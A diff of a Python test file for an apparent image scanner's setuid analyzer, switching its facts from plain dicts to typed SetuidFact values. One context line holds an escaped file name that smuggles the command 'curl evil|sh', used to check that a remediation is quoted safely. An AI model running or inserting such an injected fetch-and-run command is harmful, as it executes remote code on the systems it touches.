@@ -7,6 +7,7 @@ from hashlib import sha256
 import pytest
 
 from imgscan.analyzers.setuid.analyzer import Setuid
+from imgscan.analyzers.setuid.facts import Form, SetuidFact
 from imgscan.model.finding import Severity, State
 from imgscan.model.image import HistoryItem, ImageConfig
 from imgscan.testing import TarBuilder, conclude, facts_of, sparse_member
@@ -178,8 +179,9 @@ def test_a_remedy_can_be_pasted_whatever_the_name() -> None:
     assert finding.remediation == "RUN chmod u-s \"$(printf '/bin/x\\073 curl evil\\174sh \\043\\047')\""
 
 
-def test_its_facts_are_plain_values() -> None:
+def test_its_facts_are_values_with_fields() -> None:
     ((path, data),) = facts_of(Setuid(), SU)
 
     assert path == "bin/su"
-    assert (data["mode"], data["sha256"]) == (0o4755, sha256(b"\x7fELF").hexdigest())
+    assert isinstance(data, SetuidFact)
+    assert (data.form, data.sha256, data.names) == (Form.ELF, sha256(b"\x7fELF").hexdigest(), None)
